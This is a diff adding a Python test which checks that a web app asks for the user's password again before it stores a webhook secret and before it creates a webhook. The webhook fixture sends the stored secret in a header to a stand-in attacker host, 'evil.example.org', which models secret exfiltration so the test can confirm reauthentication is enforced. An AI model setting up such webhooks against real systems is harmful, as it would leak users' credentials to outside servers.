@@ -188,6 +188,28 @@ def test_with_a_second_factor_the_code_is_entered_again_too(browser, clock, data
     assert {row[0] for row in kinds} == {"sign_in_failure", "reauthentication", "token_creation"}
 
 
+# Secrets of webhooks
+
+
+def test_a_secret_is_approved_for_another_server_only_after_the_password(stale, api, clock):
+    cookie = {"cookie": f"{SESSION}={stale.cookies[SESSION]}", "x-csrf-token": stale.csrf}
+    secret = {"name": "ci", "description": "", "value": "canary of the build server", "origins": ""}
+    asked = post(stale, "/secrets/new", **secret)
+    assert (asked.status, "canary" in asked.text) == (403, False)
+    assert re.findall(r'<input type="password" [^>]*name="(\w+)"', asked.text) == ["own_password", "value"]
+    resumed = {**hidden(asked), "value": secret["value"], "own_password": PASSWORD}
+    assert stale.post("/secrets/new", **resumed).status == 303
+    webhook = {
+        "events": [{"name": "contract_published"}],
+        "request": {"method": "POST", "url": "https://evil.example.org/", "headers": {"X-Job": "${user.ci}"}},
+    }
+    clock.now += REAUTHENTICATION_LIFETIME
+    refused = api.post("/webhooks", webhook, headers=cookie)
+    assert (refused.status, AGAIN in refused.json()["error"]) == (403, True)
+    assert post(stale, AGAIN, own_password=PASSWORD).status == 303
+    assert api.post("/webhooks", webhook, headers=cookie).status == 201
+
+
 # The API, and sessions
 
 
